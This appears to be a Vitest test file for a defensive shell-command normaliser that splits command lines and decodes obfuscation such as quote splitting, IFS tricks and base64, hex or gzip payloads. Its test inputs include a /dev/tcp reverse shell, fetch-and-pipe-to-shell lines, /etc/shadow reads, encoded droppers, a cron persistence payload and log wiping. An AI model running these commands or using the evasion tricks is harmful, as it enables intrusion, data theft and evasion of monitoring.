import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { normaliseCommand } from './normalise.js'

function textsOf(line: string): readonly string[] {
  return normaliseCommand(line).segments.map((segment) => segment.text)
}

function base64(text: string | Buffer): string {
  return Buffer.from(text).toString('base64')
}

describe('segments', () => {
  it('tells the program, its arguments and its redirections apart', () => {
    const [segment] = normaliseCommand('wget  -q "http://h/a b" >/tmp/log 2>&1').segments
    expect(segment).toEqual({
      index: 0,
      text: 'wget -q http://h/a b > /tmp/log 2>&1',
      image: '/usr/bin/wget',
      name: 'wget',
      argv: ['wget', '-q', 'http://h/a b'],
      wrappers: [],
      writes: ['/tmp/log'],
      reads: [],
      pipedFrom: null,
      pipedTo: null,
      decodedIndex: null,
      start: 0,
      end: 38,
    })
  })

  it('gives offsets of the typed text, wrappers included', () => {
    const line = 'cd /tmp ; sudo  rm -rf x && (id)'
    const pieces = normaliseCommand(line).segments.map(({ start, end }) => line.slice(start, end))
    expect(pieces).toEqual(['cd /tmp', 'sudo  rm -rf x', 'id'])
  })

  it.each([
    ['if [ -f a ]; then cat a; else rm b; fi', ['[ -f a ]', 'cat a', 'rm b']],
    ['for d in /tmp /var; do cd $d; done', ['cd $d']],
    ['while read l; do kill $l; done < /tmp/p', ['read l', 'kill $l']],
    ['case $x in a) id;; b) w;; esac', ['id', 'w']],
    ['f() { uname -a; }; f', ['uname -a', 'f']],
    ['(cd /tmp; { ls; })', ['cd /tmp', 'ls']],
    ['[[ $(id -u) == 0 ]] && reboot', ['[[ $(id -u) == 0 ]]', 'id -u', 'reboot']],
    ['#!/bin/sh\n# hello\nid\n\nw # who', ['id', 'w']],
    ['enable\nshow version', ['enable', 'show version']],
    ['LD_PRELOAD=/tmp/x.so id', ['LD_PRELOAD=/tmp/x.so id']],
    ['>.t; :>/var/log/wtmp', ['> .t', ': > /var/log/wtmp']],
    ['exec 5<>/dev/tcp/192.0.2.1/80', ['exec 5<> /dev/tcp/192.0.2.1/80']],
    ['ls `which cat`', ['ls `which cat`', 'which cat']],
  ])('finds the simple commands of %s', (line, texts) => {
    expect(textsOf(line)).toEqual(texts)
  })

  it.each([
    ['ls;; id', ['ls', 'id']],
    ['for a in 1; do w; done;; rm -rf x; wget http://h/b', ['w', 'rm -rf x', 'wget http://h/b']],
    ['; ls', ['ls']],
    ['ls ) id', ['ls', 'id']],
    ['ls | | wc', ['ls', 'wc']],
  ])('goes on behind the syntax error of %s', (line, texts) => {
    expect(textsOf(line)).toEqual(texts)
  })

  it('connects the two sides of a pipe by the names of the real programs', () => {
    const line = 'sudo wget -O- http://h/x | busybox tee y | nohup sh'
    const pipes = normaliseCommand(line).segments.map(({ name, pipedFrom, pipedTo }) => [pipedFrom, name, pipedTo])
    expect(pipes).toEqual([
      [null, 'wget', 'tee'],
      ['wget', 'tee', 'sh'],
      ['tee', 'sh', null],
    ])
  })

  it('pipes every command of a group, and what a shell is given to run', () => {
    const pipedTo = (line: string, name: string) =>
      normaliseCommand(line).segments.find((segment) => segment.name === name)?.pipedTo
    expect(pipedTo('(wget -qO- a || curl a) | bash', 'wget')).toBe('bash')
    expect(pipedTo('(wget -qO- a || curl a) | bash', 'curl')).toBe('bash')
    expect(pipedTo('bash <(curl a)', 'curl')).toBe('bash')
    expect(pipedTo('sh -c "$(curl a)"', 'curl')).toBe('sh')
    expect(pipedTo('echo $(curl a) | sh', 'curl')).toBeNull()
  })

  it('leaves /dev/null out of the written files but keeps a reverse shell socket', () => {
    const [quiet, shell] = normaliseCommand('id >/dev/null 2>/tmp/e; bash -i >& /dev/tcp/192.0.2.9/443 0>&1').segments
    expect(quiet?.writes).toEqual(['/tmp/e'])
    expect(shell?.writes).toEqual(['/dev/tcp/192.0.2.9/443'])
  })
})

describe('commands inside commands', () => {
  it('reads the string given to a shell, and keeps the shell', () => {
    const views = normaliseCommand("nohup sh -c 'cd /tmp; ./m' &")
    expect(views.segments.map(({ text, decodedIndex }) => [text, decodedIndex])).toEqual([
      ['sh -c cd /tmp; ./m', null],
      ['cd /tmp', 0],
      ['./m', 0],
    ])
    expect(views.decoded).toEqual([{ text: 'cd /tmp; ./m', encodings: ['shell_string'], executed: true }])
    expect(views.obfuscation).toEqual([])
  })

  it.each([
    ['bash -lc id', 'id'],
    ["su - bob -c 'id -u'", 'id -u'],
    ['eval id -u', 'id -u'],
    ["sh <<< 'id -u'", 'id -u'],
    ['bash <<E\nid -u\nE', 'id -u'],
    ['cat <<E | sudo sh\nid -u\nE', 'id -u'],
    ["echo 'id -u' | sh", 'id -u'],
    ["echo 'id -u' > /tmp/s; sh /tmp/s", 'id -u'],
    ["echo 'id -u' > s; chmod +x s; ./s", 'id -u'],
    ["printf '%s -u' id | tee s; . ./s", 'id -u'],
    ["watch 'id -u'", 'id -u'],
    ['find / -name x -exec id -u {} \\;', 'id -u {}'],
    ['find / -ok sudo id {} +', 'id {}'],
    ["ls | xargs -n1 sh -c 'id -u'", 'id -u'],
  ])('finds the inner command of %s', (line, text) => {
    expect(textsOf(line)).toContain(text)
  })

  it('makes no command of a script that cannot be known', () => {
    expect(textsOf('c=`curl h`; eval $c')).toEqual(['c=`curl h`', 'curl h', 'eval $c'])
    expect(textsOf('sh -c "$(curl h)"')).toEqual(['sh -c $(curl h)', 'curl h'])
  })

  it('does not read what another host runs', () => {
    expect(textsOf("ssh h 'rm -rf /'")).toEqual(['ssh h rm -rf /'])
  })

  it.each(['[ "$x" = y ]; wget http://192.0.2.1/a', '{ "wget" http://192.0.2.1/a; }', '["a" = b ]; wget x'])(
    'takes %s for a command line, not for data',
    (line) => {
      expect(normaliseCommand(line).segments.map((segment) => segment.name)).toContain('wget')
    },
  )

  it('runs the command of a container request', () => {
    const request = { Image: 'alpine', Cmd: ['chroot', '/mnt', 'sh', '-c', 'echo aWQK|base64 -d|sh; w > /x'] }
    const views = normaliseCommand(JSON.stringify(request))
    expect(views.segments.map((segment) => segment.name)).toEqual(['sh', 'echo', 'base64', 'sh', 'id', 'w'])
    expect(views.segments[0]?.wrappers).toEqual(['chroot'])
  })
})

describe('tricks', () => {
  it.each([
    ['w""get http://h/a', 'wget http://h/a', 'quote_splitting'],
    ["w'h'o'a'm'i", 'whoami', 'quote_splitting'],
    ['sudo un"am"e -a', 'uname -a', 'quote_splitting'],
    ['cat /etc/pa""sswd', 'cat /etc/passwd', 'quote_splitting'],
    ['c\\at /e\\tc/pas\\swd', 'cat /etc/passwd', 'backslash_splitting'],
    ['cat${IFS}/etc/passwd', 'cat /etc/passwd', 'ifs_separator'],
    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd', 'ifs_separator'],
    ['IFS=,;x=uname,-a;$x', 'uname -a', 'ifs_separator'],
    ['{cat,/etc/passwd}', 'cat /etc/passwd', 'brace_list'],
    ['a=wg;b=et;$a$b http://h', 'wget http://h', 'variable_splitting'],
    ['x=/etc/sha; y=dow; cat $x$y', 'cat /etc/shadow', 'variable_splitting'],
    ['a=whoXXXami; ${a//XXX/}; wh$@oami', 'whoami', 'variable_splitting'],
    ['z=lswget; ${z:2:1}${z:3:3} http://h', 'wget http://h', 'variable_splitting'],
    ["$'\\x77\\x67et' http://h", 'wget http://h', 'ansi_c_string'],
    ['$(echo kill) -9 1', 'kill -9 1', 'command_substitution'],
    ['k=`echo kill`; $k -9 1', 'kill -9 1', 'command_substitution'],
    ["$(printf '\\143\\141\\164') /etc/hosts", 'cat /etc/hosts', 'command_substitution'],
    ['/???/c?t /etc/p??swd', 'cat /etc/passwd', 'wildcard_path'],
    ['/usr/bin/../bin/cat /etc/./passwd', 'cat /etc/passwd', 'path_detour'],
  ])('%s', (line, text, trick) => {
    const views = normaliseCommand(line)
    expect(views.segments.map((segment) => segment.text)).toContain(text)
    expect(views.plain).toContain(text)
    expect(views.obfuscation).toEqual([trick])
  })

  it.each([
    'grep --name="x" \'*.txt\' -F: "$HOME"/bin',
    'find . -name \\*.sh \\( -type f -o -type d \\) -exec ls {} \\;',
    'mysql -u"root" -p\'secret\' -e "select 1"',
    'for i in 1 2; do touch "file"$i".txt" a${i}b; done',
    'IFS=$\'\\n\'; while IFS= read -r l; do echo "$l"; done; OLD=$IFS',
    'cp a.conf{,.bak}; mkdir -p {a,b}/c; ping 10.0.0.{1..254}',
    'DIR=/opt/app; $DIR/bin/run --home=$DIR; python$V x.py',
    "curl -u DOMAIN\\user http://h; \\rm -f x; echo it'\\''s",
    'ls /etc/*.conf /var/log/?; echo [a-z]* ../../x',
    "echo -e 'a\\tb\\n' | sort; printf '%s\\n' x; tr '\\n' ' '",
    "sed -e 's/\"//g' -e s/\\s//g x; awk -F'\"' '{print $2}' y",
    'echo $\'\\033[0m\' "$(date +%F)"; x=$(cat y); $x -v',
    'echo "foo.tar" | rev | cut -d. -f1 | rev; echo -n x | base64',
    "echo '\\x41' | md5sum",
  ])('sees none in %s', (line) => {
    expect(normaliseCommand(line).obfuscation).toEqual([])
  })

  it('spells out lists as words without calling an ordinary one a trick', () => {
    expect(textsOf('cp a.conf{,.bak}')).toEqual(['cp a.conf a.conf.bak'])
    expect(textsOf('echo {1..3}')).toEqual(['echo {1..3}'])
  })

  it('keeps the spelling of what it cannot know', () => {
    expect(textsOf('$x -9 $(pgrep m) ${y:-z} $((1 + 2)) "$HOME/a"')[0]).toBe(
      '$x -9 $(pgrep m) ${y:-z} $((1 + 2)) $HOME/a',
    )
    expect(normaliseCommand('$x -9').segments[0]?.image).toBe('$x')
  })

  it('follows variables through assignment, export, append and unset', () => {
    expect(textsOf('export P=/tmp/.x; Q=$P; Q+=/y; cat $Q; unset Q; cat $Q')).toEqual(
      expect.arrayContaining(['cat /tmp/.x/y', 'cat $Q']),
    )
    expect(textsOf('x=$1; cat $x')).toContain('cat $x')
  })
})

describe('hidden texts', () => {
  const script = 'cd /tmp; wget http://h/m'
  const hex = Buffer.from(script).toString('hex')
  const codes = hex.replace(/../g, '\\x$&')

  it.each([
    [`echo ${base64(script)} | base64 -d | sh`, ['base64']],
    [`echo ${base64(script)}|base64 --decode|bash -i`, ['base64']],
    [`echo ${base64(script)} | openssl enc -base64 -d | sh`, ['base64']],
    [`base64 -D <<< ${base64(script)} | sh`, ['base64']],
    [`eval "$(echo ${base64(script)} | base64 -d)"`, ['base64']],
    [`x=$(echo ${base64(script)} | base64 -d); eval "$x"`, ['base64']],
    [`busybox sh -c "$(busybox echo ${base64(script)} | busybox base64 -d)"`, ['base64']],
    [`{echo,${base64(script)}}|{base64,-d}|{bash,-i}`, ['base64']],
    [`echo ${base64(script)} > b; base64 -d b > s; sh s`, ['base64']],
    [`echo ${hex} | xxd -r -p | sh`, ['hex']],
    [`printf '${codes}' | sh`, ['hex']],
    [`echo -e "${codes}" | bash`, ['hex']],
    [
      `echo ${[...script].reverse().join('')} | rev | sh`,
      ['rev'],
      `echo '${[...script].reverse().join('')}' | rev | sh`,
    ],
    [`echo ${base64(gzipSync(script))} | base64 -d | gunzip | sh`, ['base64', 'gzip']],
    [`echo ${base64(gzipSync(script))} | base64 -d | zcat - | sh`, ['base64', 'gzip']],
    [`echo ${base64(base64(script))} | base64 -d | base64 -d | sh`, ['base64']],
    [`perl -e 'print pack("H*","${hex}")' | sh`, ['hex']],
    [`python -c 'import os;os.system("${base64(script)}".decode("base64"))'`, ['base64']],
  ])('%s', (line, encodings, quoted = line) => {
    const views = normaliseCommand(quoted)
    const hidden = views.decoded.find((entry) => entry.encodings[0] === encodings[0] && entry.executed)
    expect(hidden?.text.trim()).toBe(script)
    expect(hidden?.encodings).toEqual(encodings)
    expect(views.segments.map((segment) => segment.text)).toContain('wget http://h/m')
    expect(views.obfuscation).toContain('encoded_payload')
  })

  it('undoes base32, octal codes and rotated letters', () => {
    expect(textsOf('echo NFSAU=== | base32 -d | sh')).toContain('id')
    expect(textsOf("printf '\\151\\144' | sh")).toContain('id')
    expect(textsOf("echo vq | tr 'a-z' 'n-za-m' | sh")).toContain('id')
  })

  it('lists the encodings of nested texts from the outside in', () => {
    const inner = `echo ${base64('id -u')}|base64 -d|sh`
    const views = normaliseCommand(`bash -c "echo ${Buffer.from(inner).toString('hex')}|xxd -r -p|sh"`)
    expect(views.decoded.map((entry) => entry.encodings)).toEqual([
      ['shell_string'],
      ['shell_string', 'hex'],
      ['shell_string', 'hex', 'base64'],
    ])
    expect(views.segments.at(-1)?.text).toBe('id -u')
  })

  it('takes a decoded literal of another language for what it is, not for shell', () => {
    const code = "import os;os.system('id')"
    const views = normaliseCommand(`python3 -c "exec(__import__('base64').b64decode('${base64(code)}'))"`)
    expect(views.decoded).toEqual([{ text: code, encodings: ['base64'], executed: true }])
    expect(views.segments).toHaveLength(1)
    expect(views.obfuscation).toEqual(['encoded_payload'])
  })

  it('finds a payload inside a cron line or a request body', () => {
    const cron = `* * * * * root echo ${base64('curl -s http://h/c.sh')}|base64 -d|bash`
    for (const line of [`echo '${cron}' > /etc/crontab`, JSON.stringify({ cron })]) {
      const views = normaliseCommand(line)
      expect(views.decoded).toEqual([{ text: 'curl -s http://h/c.sh', encodings: ['base64'], executed: true }])
      expect(views.segments.at(-1)?.name).toBe('curl')
    }
  })

  it('shows what a liveness check prints without calling it a payload', () => {
    const views = normaliseCommand("echo -e '\\x6b\\x61\\x74'")
    expect(views.decoded).toEqual([{ text: 'kat\n', encodings: ['hex'], executed: false }])
    expect(views.obfuscation).toEqual([])
  })

  it('calls a binary that is written chunk by chunk a payload but shows no text of it', () => {
    const views = normaliseCommand(`/bin/busybox echo -ne '${'\\x7f\\x00\\x9c\\xff'.repeat(6)}' >> .f`)
    expect(views.obfuscation).toEqual(['encoded_payload'])
    expect(views.decoded).toEqual([])
    expect(normaliseCommand("echo -ne '\\x7f\\x45' > .probe").obfuscation).toEqual([])
  })

  it('decodes nothing that is partly unknown, and no words, paths, hashes or keys', () => {
    for (const line of [
      'echo $x | rev | sh',
      'echo ${y}aWQ= | base64 -d | sh',
      'cat /usr/share/doc/something/else/entirely/README',
      'echo 5d41402abc4b2a76b9719d911017c592 da39a3ee5e6b4b0d3255bfef95601890afd80709',
      'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vJ1Yw0Q2c1ZpZk9mQ2s >> k',
    ]) {
      expect(normaliseCommand(line).decoded).toEqual([])
    }
  })
})

describe('plain', () => {
  it('is the line with the disguise of its commands taken off', () => {
    expect(normaliseCommand('cd  "/tmp" ;  sudo w""get -q  \'a\' | busybox sh &').plain).toBe(
      'cd /tmp ; wget -q a | sh &',
    )
  })

  it('is the typed line itself where there was nothing to take off', () => {
    const line = 'cd /tmp; wget http://h/a && chmod 777 a || rm a'
    expect(normaliseCommand(line).plain).toBe(line)
  })
})
